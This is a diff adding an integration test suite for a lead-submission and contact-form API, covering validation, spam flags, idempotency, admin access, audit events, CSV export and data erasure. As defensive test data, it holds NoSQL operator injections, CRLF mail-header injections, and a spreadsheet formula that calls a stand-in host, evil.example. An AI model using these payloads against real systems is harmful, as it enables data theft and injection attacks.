@@ -1,0 +1,418 @@
+import { randomInt, randomUUID } from 'node:crypto';
+import type { Lead, LeadListExtras, LeadRow, SubmissionReceipt } from '@croneai/contracts/endpoints/leads.ts';
+import { contactReceived, leadSubmitted } from '@croneai/contracts/events/leads.ts';
+import { userDeleted, userRegistered } from '@croneai/contracts/events/users.ts';
+import { LEAD_CONSENT_TEXT } from '@croneai/contracts/leads.ts';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TestSession } from '../../../tests/support/sessions.ts';
+import { until } from '../../../tests/support/until.ts';
+import { type Harness, someUser, startHarness } from './harness.ts';
+
+let harness: Harness;
+let admin: TestSession;
+const adminUser = someUser({ role: 'admin', fullName: 'Zed Admin' });
+
+beforeAll(async () => {
+  harness = await startHarness();
+  admin = await harness.sessions.open({ role: 'admin', userId: adminUser.userId });
+  await register(adminUser);
+});
+afterAll(() => harness?.stop());
+
+const unique = () => randomUUID().slice(0, 8);
+const somePhone = () => `+234802${randomInt(1_000_000, 10_000_000)}`;
+
+function someLead(change: Record<string, unknown> = {}) {
+  return {
+    fullName: `Ada ${unique()}`,
+    phoneNumber: somePhone(),
+    email: `lead-${unique()}@example.com`,
+    hasAccount: 'yes',
+    hasFunded: 'ready',
+    canAfford: 'yes',
+    hasLostMoney: 'no',
+    lossAmount: '',
+    usageMethod: 'auto',
+    wantsCall: 'no',
+    callNumber: '',
+    readyToStart: 'today',
+    ...change,
+  };
+}
+
+const submit = (body: unknown, headers: Record<string, string> = {}) =>
+  harness.call<SubmissionReceipt>('POST', '/api/bot-access/submit', { body, headers });
+const asAdmin = <Data>(method: string, path: string, options: object = {}) =>
+  harness.call<Data>(method, `/api/bot-access/submissions${path}`, { token: admin.token, ...options });
+const list = async (query: Record<string, string>) => {
+  const { status, envelope } = await asAdmin<LeadRow[]>('GET', `?${new URLSearchParams(query)}`);
+  return { status, ...(envelope as typeof envelope & LeadListExtras) };
+};
+const getLead = async (id: string) => (await asAdmin<Lead>('GET', `/${id}`)).envelope.data;
+const patch = (id: string, body: unknown, headers: Record<string, string> = {}) =>
+  asAdmin<Lead>('PATCH', `/${id}/status`, { body, headers });
+
+async function newLead(change: Record<string, unknown> = {}): Promise<string> {
+  const { status, envelope } = await submit(someLead(change));
+  expect(status).toBe(201);
+  return envelope.data.id;
+}
+
+async function register(user: ReturnType<typeof someUser>) {
+  await harness.settled('users', 1, () =>
+    harness.publish(userRegistered, { aggregateId: user.userId, aggregateVersion: 1, payload: user }),
+  );
+}
+
+describe('a submission', () => {
+  it('is kept with normalised numbers and the words that were agreed to, and is told of', async () => {
+    const body = someLead({
+      phoneNumber: '+234 0801-234 5678',
+      wantsCall: 'yes',
+      callNumber: '+44 07911 123456',
+    });
+    const { status, envelope } = await submit(body);
+    expect(status).toBe(201);
+    const lead = await getLead(envelope.data.id);
+    expect(lead).toMatchObject({
+      fullName: body.fullName,
+      phoneNumber: '+2348012345678',
+      callNumber: '+447911123456',
+      status: 'new',
+      isSuspect: false,
+      version: 1,
+      consent: { text: LEAD_CONSENT_TEXT, at: lead.submittedAt },
+    });
+    const [event] = await harness.waitForMessages('leads', lead.id, 1);
+    expect(leadSubmitted.payload.parse(event?.value.payload)).toMatchObject({
+      email: body.email,
+      linkedCount: 0,
+    });
+  });
+
+  it('says under each field what is wrong with it', async () => {
+    const body = {
+      ...someLead(),
+      email: 'no',
+      phoneNumber: '0801',
+      hasFunded: 'maybe',
+      hasLostMoney: 'yes',
+      wantsCall: 'yes',
+    };
+    const { status, envelope } = await submit(body);
+    expect(status).toBe(422);
+    expect(envelope.data).toEqual({
+      fields: {
+        email: 'Please enter a valid email address',
+        phoneNumber: 'Please enter a valid phone number (digits only, no country code)',
+        hasFunded: 'Please select an option',
+        lossAmount: 'Please enter the loss amount',
+        callNumber: 'Please enter a call number',
+      },
+    });
+  });
+
+  it.each([
+    ['the field that nobody sees', { website: 'https://spam.example' }, ['honeypot']],
+    ['no time to read it', { elapsedMs: 40 }, ['too-fast']],
+  ])('with %s is kept and marked', async (_what, change, reasons) => {
+    const lead = await getLead(await newLead(change));
+    expect(lead).toMatchObject({ isSuspect: true, suspectReasons: reasons });
+    expect((await list({ suspect: 'yes', search: lead.email })).data).toHaveLength(1);
+    expect((await list({ suspect: 'no', search: lead.email })).data).toHaveLength(0);
+  });
+
+  it('cannot bring a status, an assignee, a version or a note of its own', async () => {
+    const id = await newLead({
+      status: 'activated',
+      assigneeId: adminUser.userId,
+      version: 9,
+      timeline: [{}],
+      _id: 'x',
+    });
+    expect(await getLead(id)).toMatchObject({ status: 'new', assignee: null, version: 1, timeline: [] });
+  });
+
+  it('refuses operators and controls in place of texts, and never answers 500', async () => {
+    for (const change of [
+      { email: { $gt: '' } },
+      { fullName: ['a'] },
+      { fullName: 'a\r\nBcc: b@c.de' },
+      { website: {} },
+    ])
+      expect((await submit(someLead(change))).status).toBe(422);
+  });
+
+  it('sent fifty times at once under one key is one lead with one reply', async () => {
+    const body = someLead();
+    const key = { 'idempotency-key': randomUUID() };
+    const replies = await Promise.all(Array.from({ length: 50 }, () => submit(body, key)));
+    expect(new Set(replies.map(({ status }) => status))).toEqual(new Set([201]));
+    expect(new Set(replies.map(({ envelope }) => JSON.stringify(envelope.data))).size).toBe(1);
+    expect((await list({ search: body.email })).pagination?.total).toBe(1);
+
+    const other = await submit({ ...body, readyToStart: 'week' }, key);
+    expect(other).toMatchObject({ status: 409, envelope: { error: 'request.idempotency_key_reused' } });
+  });
+
+  it('of the same person is kept too, and linked by address or by number', async () => {
+    const first = someLead();
+    const ids = [
+      await newLead(first),
+      await newLead({ email: first.email }),
+      await newLead({ phoneNumber: first.phoneNumber.replace('+234', '+2340') }),
+    ];
+    const lead = await getLead(ids[0] as string);
+    expect(lead.linked.map(({ id }) => id).sort()).toEqual(ids.slice(1).sort());
+    const { data } = await list({ search: first.email });
+    expect(data.map(({ linkedCount }) => linkedCount).sort()).toEqual([1, 2]);
+  });
+});
+
+describe('the list', () => {
+  it('counts each status under the search whatever the status filter says, and shows today in the chart', async () => {
+    const name = `Counted ${unique()}`;
+    const ids = [
+      await newLead({ fullName: name }),
+      await newLead({ fullName: name }),
+      await newLead({ fullName: name }),
+    ];
+    await patch(ids[0] as string, { status: 'qualified' });
+    await patch(ids[0] as string, { status: 'activated' });
+    await patch(ids[1] as string, { status: 'rejected' });
+
+    const found = await list({ search: name.toUpperCase(), status: 'activated' });
+    expect(found.data.map(({ id }) => id)).toEqual([ids[0]]);
+    expect(found.pagination).toEqual({ total: 1, pages: 1, current: 1 });
+    expect(found.counts).toEqual({
+      total: 3,
+      suspect: 0,
+      new: 1,
+      contacted: 0,
+      qualified: 0,
+      activated: 1,
+      rejected: 1,
+    });
+    expect(found.byDay).toHaveLength(30);
+    expect(found.byDay.at(-1)).toMatchObject({ submitted: 3, activated: 1 });
+    expect(found.assignees).toContainEqual({ id: adminUser.userId, fullName: 'Zed Admin' });
+  });
+
+  it('finds a number however it is written, and takes every text literally', async () => {
+    const body = someLead({ fullName: 'A.*b (c) [d] $e' });
+    await newLead(body);
+    const written = body.phoneNumber.replace('+234', '+234 ').replace(/(\d{3})(\d{4})$/, '$1-$2');
+    expect((await list({ search: written })).data).toHaveLength(1);
+    expect((await list({ search: 'A.*b (c) [d]' })).data[0]?.email).toBe(body.email);
+    expect((await list({ search: '.*' })).data).toHaveLength(1);
+    for (const search of ['(', '[a', '\\', '$where', '^']) expect((await list({ search })).status).toBe(200);
+  });
+
+  it('is empty beyond its end and outside of its days, and 50 rows long by itself', async () => {
+    const beyond = await list({ page: '999999' });
+    expect(beyond).toMatchObject({ status: 200, data: [], pagination: { current: 999_999 } });
+    expect((await list({ to: '2020-01-01' })).data).toEqual([]);
+    expect((await list({ from: '', to: '', status: '', search: '' })).data.length).toBeLessThanOrEqual(50);
+    for (const query of ['from=yesterday', 'status=open', 'page=0', 'limit=201', 'suspect=maybe'])
+      expect((await asAdmin('GET', `?${query}`)).status).toBe(422);
+    // An operator is a field that nobody knows.
+    const operators = await list({ 'status[$ne]': 'new', 'search[$regex]': '^$', limit: '1' });
+    expect(operators.pagination?.total).toBe((await list({ limit: '1' })).pagination?.total);
+  });
+
+  it('is for admins alone', async () => {
+    const id = await newLead();
+    const { token } = await harness.sessions.open();
+    for (const [method, path] of [
+      ['GET', ''],
+      ['GET', '/export'],
+      ['GET', `/${id}`],
+      ['PATCH', `/${id}/status`],
+    ] as const) {
+      const body = method === 'PATCH' ? { body: { status: 'contacted' } } : {};
+      expect((await asAdmin(method, path, { ...body, token })).status).toBe(403);
+      expect((await asAdmin(method, path, { ...body, token: 'nobody' })).status).toBe(401);
+    }
+    expect((await asAdmin('GET', '/66f1a2b3c4d5e6f708192aaa')).envelope.error).toBe('leads.not_found');
+    expect((await asAdmin('GET', '/no-id')).status).toBe(400);
+  });
+});
+
+describe('working a lead', () => {
+  it('moves it, notes who did what, and is told of with its audit entry', async () => {
+    const id = await newLead();
+    const { status, envelope } = await patch(
+      id,
+      { status: 'contacted', assigneeId: adminUser.userId, notes: 'Called.\nWants Monday.' },
+      { 'if-match': '"1"' },
+    );
+    expect(status).toBe(200);
+    const by = { id: adminUser.userId, fullName: 'Zed Admin' };
+    expect(envelope.data).toMatchObject({
+      status: 'contacted',
+      assignee: by,
+      version: 2,
+      nextStatuses: ['qualified', 'rejected'],
+      timeline: [
+        { kind: 'status', from: 'new', to: 'contacted', by },
+        { kind: 'assignee', from: null, to: by, by },
+        { kind: 'note', text: 'Called.\nWants Monday.', by },
+      ],
+    });
+    const events = await harness.waitForMessages('leads', id, 2);
+    expect(events[1]?.value).toMatchObject({
+      type: 'lead.status-changed',
+      aggregateVersion: 2,
+      payload: { from: 'new', to: 'contacted', changedBy: adminUser.userId },
+    });
+    const [audit] = await harness.waitForMessages('audit', id, 1);
+    expect(audit?.value.payload).toMatchObject({
+      actor: { userId: adminUser.userId, role: 'admin' },
+      action: 'lead.update',
+      subject: { kind: 'lead', id },
+      before: { status: 'new', assigneeId: null, notes: 0 },
+      after: { status: 'contacted', assigneeId: adminUser.userId, notes: 1 },
+    });
+    expect(JSON.stringify(audit?.value)).not.toContain('Monday');
+  });
+
+  it('refuses a move that does not follow, an assignee who is no admin, and a change of nothing', async () => {
+    const id = await newLead();
+    expect(await patch(id, { status: 'activated' })).toMatchObject({
+      status: 422,
+      envelope: {
+        error: 'leads.transition',
+        data: { fields: { status: expect.stringContaining('activated') } },
+      },
+    });
+    const member = someUser();
+    await register(member);
+    expect((await patch(id, { assigneeId: member.userId })).envelope.error).toBe('leads.assignee_unknown');
+    expect((await patch(id, {})).status).toBe(422);
+    expect((await patch(id, { status: { $ne: 'new' } })).status).toBe(422);
+    expect((await getLead(id)).version).toBe(1);
+  });
+
+  it('lets one of two admins win, and shows the other what is there now', async () => {
+    const id = await newLead();
+    const seen = { 'if-match': '"1"' };
+    const replies = await Promise.all([
+      patch(id, { status: 'contacted' }, seen),
+      patch(id, { status: 'rejected' }, seen),
+      patch(id, { notes: 'Me too' }, seen),
+    ]);
+    expect(replies.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
+    const lost = replies.find(({ status }) => status === 409);
+    expect(lost?.envelope).toMatchObject({ error: 'leads.conflict', data: { id, version: 2 } });
+  });
+});
+
+describe('the CSV', () => {
+  it('holds what the list holds, under the same filters, and no formula', async () => {
+    const mark = unique();
+    await newLead({
+      fullName: `=HYPERLINK("http://evil.example?${mark}","x")`,
+      hasLostMoney: 'yes',
+      lossAmount: '-1+2',
+    });
+    await newLead({ fullName: `Zoë, "the ${mark}"` });
+    const response = await fetch(`${harness.url}/api/bot-access/submissions/export?search=${mark}`, {
+      headers: { authorization: `Bearer ${admin.token}` },
+    });
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="croneai-leads-[\d-]+\.csv"/,
+    );
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const lines = new TextDecoder().decode(bytes).trim().split('\r\n');
+    expect(lines).toHaveLength(3);
+    expect(lines[0]).toMatch(/^id,submittedAt,status,/);
+    expect(lines[1]).toContain(`"Zoë, ""the ${mark}"""`);
+    expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example?${mark}"",""x"")"`);
+    expect(lines[2]).toContain(`'-1+2`);
+    expect(lines[2]).toContain(`'+234802`);
+  });
+});
+
+describe('the contact form', () => {
+  const message = () => ({
+    name: 'Zoe Writer',
+    email: `writer-${unique()}@example.com`,
+    category: 'billing',
+    subject: 'A question',
+    message: 'Two\nlines',
+  });
+  const send = (body: unknown, headers: Record<string, string> = {}) =>
+    harness.call<{ id: string }>('POST', '/api/contact', { body, headers });
+
+  it('is told of once, however often it is sent under one key', async () => {
+    const body = message();
+    const key = { 'idempotency-key': randomUUID() };
+    const replies = await Promise.all([send(body, key), send(body, key), send(body, key)]);
+    expect(new Set(replies.map(({ status, envelope }) => `${status} ${envelope.data.id}`)).size).toBe(1);
+    expect(replies[0]).toMatchObject({ status: 201, envelope: { message: 'Message sent successfully!' } });
+    const id = replies[0]?.envelope.data.id as string;
+    const [event] = await harness.waitForMessages('support', id, 1);
+    expect(contactReceived.payload.parse(event?.value.payload)).toMatchObject({ ...body, isSuspect: false });
+  });
+
+  it('refuses what is missing, too long, or would be a second mail header', async () => {
+    const { envelope } = await send({});
+    expect(Object.keys((envelope.data as unknown as { fields: object }).fields).sort()).toEqual([
+      'email',
+      'message',
+      'name',
+      'subject',
+    ]);
+    for (const change of [
+      { subject: 'Hi\r\nBcc: all@example.com' },
+      { name: 'x'.repeat(101) },
+      { email: 'a@b.example\nBcc: c@d.example' },
+      { category: 'sales' },
+      { message: 'x'.repeat(5_001) },
+    ])
+      expect((await send({ ...message(), ...change })).status).toBe(422);
+    expect((await send({ ...message(), message: 'x'.repeat(200_000) })).status).toBe(413);
+  });
+});
+
+describe('a member', () => {
+  it('gets what was sent under the own address, and it is erased with the account, the audit entry excepted', async () => {
+    const member = someUser();
+    await register(member);
+    const own = await newLead({ email: member.email });
+    const others = await newLead();
+    await patch(own, { notes: 'A private note' });
+    await harness.call('POST', '/api/contact', {
+      body: { name: 'Me', email: member.email, category: 'general', subject: 'S', message: 'M' },
+    });
+
+    const { token } = await harness.sessions.open({ userId: member.userId });
+    const { envelope } = await harness.call<Record<string, { id: string }[]>>(
+      'GET',
+      '/api/account/export/leads',
+      { token },
+    );
+    expect(envelope.data.applications?.map(({ id }) => id)).toEqual([own]);
+    expect(envelope.data.contactMessages).toHaveLength(1);
+    expect(JSON.stringify(envelope.data)).not.toContain(adminUser.userId);
+
+    await harness.waitForMessages('audit', own, 1);
+    await harness.settled('users', 1, () =>
+      harness.publish(userDeleted, {
+        aggregateId: member.userId,
+        aggregateVersion: 2,
+        payload: { userId: member.userId, deletedAt: new Date().toISOString() },
+      }),
+    );
+    expect((await asAdmin('GET', `/${own}`)).status).toBe(404);
+    expect((await asAdmin('GET', `/${others}`)).status).toBe(200);
+    await until('nothing of the member is stored', async () => {
+      for (const collection of await harness.database.listCollections()) {
+        const documents = await harness.database.collection(collection.name).find({}).toArray();
+        expect(JSON.stringify(documents)).not.toContain(member.email);
+      }
+    });
+  });
+});
